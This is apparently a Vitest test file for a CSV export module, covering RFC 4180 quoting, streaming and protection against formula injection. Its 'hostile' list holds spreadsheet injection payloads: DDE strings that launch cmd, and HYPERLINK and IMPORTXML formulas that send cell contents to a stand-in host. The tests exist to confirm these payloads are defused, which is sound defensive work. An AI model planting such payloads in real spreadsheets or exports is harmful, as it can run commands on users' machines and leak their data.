import { describe, expect, it } from 'vitest';
import { csvChunks, neutralizeFormula, writeCsv } from '../../../../server/formats/sheets/csv.ts';
import type { Cell, Sheet } from '../../../../server/formats/sheets/sheet.ts';
import { streamChunks } from '../../../../server/formats/sheets/stream.ts';
import { parseCsv } from '../../../support/csv.ts';

const sheetOf = (headings: string[], rows: Cell[][], perPage = 1): Sheet<Cell[]> => ({
  columns: headings.map((heading, index) => ({ name: heading, heading, cell: (row) => row[index] ?? null })),
  pages: Array.from({ length: Math.ceil(rows.length / perPage) }, (_, page) =>
    rows.slice(page * perPage, (page + 1) * perPage),
  ),
});

it('a sheet is RFC 4180 with a byte order mark, figures and days plain', async () => {
  const rows: Cell[][] = [
    ['a "b", c', { cents: -116_050 }],
    ['línea\n2', 7],
    ['', null],
    ['a;b', { date: '2026-11-20' }],
  ];
  expect(await writeCsv(sheetOf(['Proveedor', 'Total'], rows))).toBe(
    '\ufeffProveedor,Total\r\n"a ""b"", c",-1160.50\r\n"línea\n2",7\r\n,\r\n"a;b",2026-11-20\r\n',
  );
  expect(await writeCsv(sheetOf(['Proveedor', 'Total'], []))).toBe('\ufeffProveedor,Total\r\n');
});

describe('text that a spreadsheet would run as a formula', () => {
  const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
  const before = ['', ' ', '\t', '\n', '\r\n', '\u00a0', '\u2003', '\ufeff', '\u200b', '\u0000'];
  const hostile = [
    ...signs.flatMap((sign) => before.map((start) => `${start}${sign}1+1`)),
    '=HYPERLINK("https://malo.test?"&A1,"ver")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+9)*cmd|" /C calc"!A0',
    '=IMPORTXML(CONCAT("https://malo.test/",A2:E2),"//a")',
    '=1+1";=1+1',
    '=";"&A1',
    '\rx',
    '\tx',
    '+52 (55) 5000 1001',
    // Whoever takes one apostrophe off has to find the text again.
    "'=1+1",
    "'001",
  ];

  it.each(hostile)('is defused, and is the same text behind the apostrophe: %j', async (text) => {
    expect(neutralizeFormula(text)).toBe(`'${text}`);
    const { rows } = parseCsv(await writeCsv(sheetOf(['a', 'b'], [[text, `x;${text}`]])));
    expect(rows).toEqual([{ a: `'${text}`, b: `x;${text}` }]);
  });

  it('is defused in a heading too, which may be the name of a rubro', async () => {
    const { headings } = parseCsv(await writeCsv(sheetOf(['=1+1'], [])));
    expect(headings).toEqual(["'=1+1"]);
  });

  it('is told from text that is none, and from figures', async () => {
    for (const text of ['A-1', '1160.50', '', 'Torre = 2', "d'x", 'a@b.mx'])
      expect(neutralizeFormula(text)).toBe(text);
    expect(await writeCsv(sheetOf(['a'], [[{ cents: -1 }], [-5]]))).toBe('\ufeffa\r\n-0.01\r\n-5\r\n');
  });
});

describe('a sheet that is sent while it is read', () => {
  const unexpected = (error: unknown) => {
    throw error;
  };

  /** Endless pages of a hundred rows; `read` counts them, `ended` says that reading was stopped. */
  function endless(failAt = Number.POSITIVE_INFINITY) {
    const seen = { read: 0, ended: false };
    async function* pages() {
      try {
        for (;;) {
          if (++seen.read === failAt) throw new Error('el disco falló: /ruta/secreta');
          yield Array.from({ length: 100 }, (_, index): Cell[] => [seen.read * 100 + index, 'x'.repeat(80)]);
        }
      } finally {
        seen.ended = true;
      }
    }
    return { seen, sheet: { ...sheetOf(['a', 'b'], []), pages: pages() } };
  }

  it('begins before its end is known, and reads no further than it is asked for', async () => {
    const { seen, sheet } = endless();
    const reader = (await streamChunks(csvChunks(sheet), unexpected)).getReader();
    expect(seen.read).toBe(1);
    for (let page = 1; page <= 20; page++) {
      await reader.read();
      await new Promise((resolve) => setImmediate(resolve));
      expect(seen.read).toBeLessThanOrEqual(page + 1);
    }
    await reader.cancel();
    expect(seen.ended).toBe(true);
    expect(seen.read).toBeLessThanOrEqual(21);
  });

  it('breaks off where a page can’t be read, and says so to the log, not to the reader', async () => {
    const { seen, sheet } = endless(4);
    const errors: unknown[] = [];
    const body = await streamChunks(csvChunks(sheet), (error) => errors.push(error));
    await expect(new Response(body).text()).rejects.toThrow('the export broke off');
    expect(errors.map(String)).toEqual(['Error: el disco falló: /ruta/secreta']);
    expect(seen).toEqual({ read: 4, ended: true });
  });

  it('is an ordinary error where its first page can’t be read', async () => {
    await expect(streamChunks(csvChunks(endless(1).sheet), unexpected)).rejects.toThrow('el disco falló');
  });

  it('lets others run between two pages', async () => {
    const { sheet } = endless();
    const reader = (await streamChunks(csvChunks(sheet), unexpected)).getReader();
    let others = 0;
    const tick = () => {
      others++;
      if (others < 50) setImmediate(tick);
    };
    setImmediate(tick);
    for (let page = 0; page < 10; page++) await reader.read();
    expect(others).toBeGreaterThanOrEqual(9);
    await reader.cancel();
  });
});
